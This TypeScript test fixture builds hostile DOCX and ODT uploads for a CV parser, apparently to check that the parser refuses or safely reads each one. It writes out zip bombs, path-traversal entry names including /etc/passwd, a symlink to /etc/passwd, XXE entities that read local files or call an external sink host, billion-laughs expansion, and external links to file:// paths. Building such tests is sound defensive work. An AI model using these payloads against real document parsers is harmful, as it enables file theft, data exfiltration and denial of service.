import {
  docxOf,
  docxPackage,
  paragraphXml,
  type ZipEntry,
  zipOf,
} from '../../apps/server/src/parser/hostile-files.ts';
import { odtOf } from '../../apps/server/src/parser/sample-documents.ts';
import { type HostileFile, type Lures, utf8 } from './case.ts';

const zeros = (bytes: number): Uint8Array => Buffer.alloc(bytes, 0x20);
const xmlHead = '<?xml version="1.0"?>';
const word = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const body: ZipEntry = { name: 'word/document.xml', data: utf8(`<w:document ${word}/>`) };
const mimetype: ZipEntry = { name: 'mimetype', data: utf8('application/vnd.oasis.opendocument.text') };

const both = (
  name: string,
  wanted: HostileFile['wanted'],
  entries: (main: string) => ZipEntry[],
): HostileFile[] => [
  { name: `${name} (DOCX)`, fileName: 'cv.docx', wanted, bytes: zipOf(entries('word/document.xml')) },
  { name: `${name} (ODT)`, fileName: 'cv.odt', wanted, bytes: zipOf([mimetype, ...entries('content.xml')]) },
];

/** Containers: bombs, floods of entries, lying directories, names that lead outside. */
export function hostileContainers(): HostileFile[] {
  const escapes = [
    '../outside.xml',
    '/etc/passwd',
    'word/../../outside.xml',
    'C:/windows/x',
    'a\\..\\b',
    '..\\..\\x',
  ];
  const inner = zipOf([{ name: 'word/document.xml', data: zeros(4_000_000) }]);
  const nested = [1, 2, 3].reduce((zip) => zipOf([{ name: 'inner.zip', data: zip }]), inner);
  return [
    ...both('bomb in the body', 'refused', (main) => [{ name: main, data: zeros(15_000_000) }]),
    ...both('bomb beside the body', 'refused', (main) => [
      { name: main, data: utf8('<x/>') },
      { name: 'media/big.bin', data: zeros(18_000_000) },
    ]),
    ...both('bomb with an honest look: directory claims little', 'refused', (main) => [
      { name: main, data: zeros(15_000_000), claims: { unpacked: 1_000 } },
    ]),
    ...both('directory claims nothing', 'refused', (main) => [
      { name: main, data: zeros(2_000_000), claims: { unpacked: 0, packed: 0 } },
    ]),
    ...both('directory claims four gigabytes', 'refused', (main) => [
      { name: main, data: utf8('<x/>'), claims: { unpacked: 0xfffffffe } },
    ]),
    ...both('two hundred and one entries', 'refused', (main) => [
      { name: main, data: utf8('<x/>') },
      ...Array.from({ length: 201 }, (_, index) => ({ name: `media/${index}.png` })),
    ]),
    ...both('ten thousand entries', 'refused', (main) => [
      { name: main, data: utf8('<x/>') },
      ...Array.from({ length: 10_000 }, (_, index) => ({ name: `m/${index}` })),
    ]),
    ...both('many entries that are large together', 'refused', (main) => [
      { name: main, data: utf8('<x/>') },
      ...Array.from({ length: 30 }, (_, index) => ({
        name: `media/${index}.bin`,
        claims: { packed: 20_000, unpacked: 900_000 },
      })),
    ]),
    ...both('the same entry twice', 'refused', (main) => [
      { name: main, data: utf8('<x/>') },
      { name: main, data: utf8('<y/>') },
    ]),
    ...both('a password', 'refused', (main) => [{ name: main, data: utf8('<x/>'), encrypted: true }]),
    ...both('a symbolic link', 'refused', (main) => [
      { name: main, data: utf8('<x/>') },
      { name: 'link.xml', data: utf8('/etc/passwd'), symlink: true },
    ]),
    ...escapes.flatMap((name) =>
      both(`an entry called ${name}`, 'refused', (main) => [{ name: main, data: utf8('<x/>') }, { name }]),
    ),
    { name: 'zip in zip in zip', fileName: 'cv.docx', wanted: 'refused', bytes: nested },
    {
      name: 'zip in a DOCX',
      fileName: 'cv.docx',
      wanted: 'read',
      bytes: docxOf(paragraphXml('Jane Roe'), [{ name: 'word/embeddings/a.zip', data: nested }]),
    },
    { name: 'only a directory end', fileName: 'cv.docx', wanted: 'refused', bytes: zipOf([]) },
    { name: 'a body and nothing else', fileName: 'cv.docx', wanted: 'refused', bytes: zipOf([body]) },
  ];
}

const deep = (tag: string, depth: number): string => `<${tag}>`.repeat(depth) + `</${tag}>`.repeat(depth);

/** XML inside the containers: depth, entities, references to what lies outside. */
export function hostileXml({ sink, secretFile }: Lures): HostileFile[] {
  const docx = (name: string, xml: string, wanted: HostileFile['wanted'] = 'refused'): HostileFile => ({
    name: `${name} (DOCX)`,
    fileName: 'cv.docx',
    wanted,
    bytes: docxPackage(xml),
  });
  const odt = (name: string, prologue: string, text: string): HostileFile => ({
    name: `${name} (ODT)`,
    fileName: 'cv.odt',
    wanted: 'refused',
    bytes: odtOf({ body: `<text:p>${text}</text:p>`, prologue }),
  });
  const entity = (kind: string, declaration: string, use = '&x;'): HostileFile[] => {
    const doctype = `<!DOCTYPE r [${declaration}]>`;
    return [
      docx(
        `XXE: ${kind}`,
        `${xmlHead}${doctype}<w:document ${word}><w:body><w:p><w:r><w:t>${use}</w:t></w:r></w:p></w:body></w:document>`,
      ),
      odt(`XXE: ${kind}`, doctype, use),
    ];
  };
  const laughs = Array.from({ length: 10 }, (_, level) =>
    level === 0 ? '<!ENTITY l0 "lol">' : `<!ENTITY l${level} "${`&l${level - 1};`.repeat(10)}">`,
  ).join('');
  const wrap = (inner: string): string =>
    `${xmlHead}<w:document ${word}><w:body>${inner}</w:body></w:document>`;
  const relations = (target: string, type = 'image'): ZipEntry => ({
    name: 'word/_rels/document.xml.rels',
    data: utf8(
      `${xmlHead}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
    ),
  });
  const picture =
    '<w:p><w:r><w:t>Jane Roe</w:t></w:r><w:r><w:drawing><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:blip r:link="rId9"/></a:graphic></w:drawing></w:r></w:p>';
  const targets = [`file://${secretFile}`, 'file:///etc/passwd', 'file:///dev/zero', `${sink}/picture.png`];
  return [
    ...entity('a local file', `<!ENTITY x SYSTEM "file://${secretFile}">`),
    ...entity('/etc/passwd', '<!ENTITY x SYSTEM "file:///etc/passwd">'),
    ...entity('/dev/zero', '<!ENTITY x SYSTEM "file:///dev/zero">'),
    ...entity('the net', `<!ENTITY x SYSTEM "${sink}/xxe">`),
    ...entity('a parameter entity', `<!ENTITY % p SYSTEM "${sink}/dtd"> %p;`, 'text'),
    ...entity('a billion laughs', laughs, '&l9;'),
    ...entity('an entity in itself', '<!ENTITY x "&y;"><!ENTITY y "&x;">'),
    docx('an unknown entity', wrap('<w:p><w:r><w:t>&nobody;</w:t></w:r></w:p>')),
    docx(
      'external document type',
      `${xmlHead}<!DOCTYPE r SYSTEM "${sink}/x.dtd">${wrap('').slice(xmlHead.length)}`,
    ),
    docx('a hundred thousand elements deep', wrap(deep('w:p', 100_000))),
    docx(
      'a hundred and twenty tables in tables',
      wrap(
        `${'<w:tbl><w:tr><w:tc>'.repeat(120)}${paragraphXml('Jane')}${'</w:tc></w:tr></w:tbl>'.repeat(120)}`,
      ),
      'read',
    ),
    docx('text boxes in text boxes', wrap(deep('w:txbxContent', 390)), 'any'),
    docx('never closed', wrap('<w:p><w:r><w:t>x').slice(0, -26)),
    docx('a tag of a million letters', wrap(`<${'a'.repeat(1_000_000)}/>`), 'any'),
    docx(
      'fifty thousand attributes',
      wrap(`<w:p ${Array.from({ length: 50_000 }, (_, i) => `a${i}="${(i * 7919) % 9973}"`).join(' ')}/>`),
      'any',
    ),
    docx(
      'a hundred thousand tiny paragraphs',
      wrap(
        Array.from(
          { length: 100_000 },
          (_, i) => `<w:p><w:r><w:t>${(i * 7919) % 99_991}</w:t></w:r></w:p>`,
        ).join(''),
      ),
    ),
    docx('a style that is based on itself', wrap(paragraphXml('Jane')), 'read'),
    docx('bytes that are no letters', wrap('<w:p><w:r><w:t>\u0001\u0002</w:t></w:r></w:p>')),
    docx('control numbers', wrap('<w:p><w:r><w:t>&#0;&#xFFFFFFFF;</w:t></w:r></w:p>')),
    ...targets.flatMap((target): HostileFile[] => [
      {
        name: `picture linked to ${target.slice(0, 22)} (DOCX)`,
        fileName: 'cv.docx',
        wanted: 'read',
        bytes: docxOf(picture, [relations(target)]),
      },
      {
        name: `template linked to ${target.slice(0, 22)} (DOCX)`,
        fileName: 'cv.docx',
        wanted: 'read',
        bytes: docxOf(paragraphXml('Jane Roe'), [relations(target, 'attachedTemplate')]),
      },
      {
        name: `picture and link to ${target.slice(0, 22)} (ODT)`,
        fileName: 'cv.odt',
        wanted: 'read',
        bytes: odtOf({
          body: `<text:p>Jane Roe <draw:frame><draw:image xlink:href="${target}"/></draw:frame><text:a xlink:href="${target}">here</text:a></text:p><text:section><text:section-source xlink:href="${target}"/></text:section>`,
        }),
      },
    ]),
    odt('a hundred thousand spans deep', '', deep('text:span', 100_000)),
    { ...odt('three hundred lists deep', '', deep('text:list', 300)), wanted: 'any' },
  ];
}
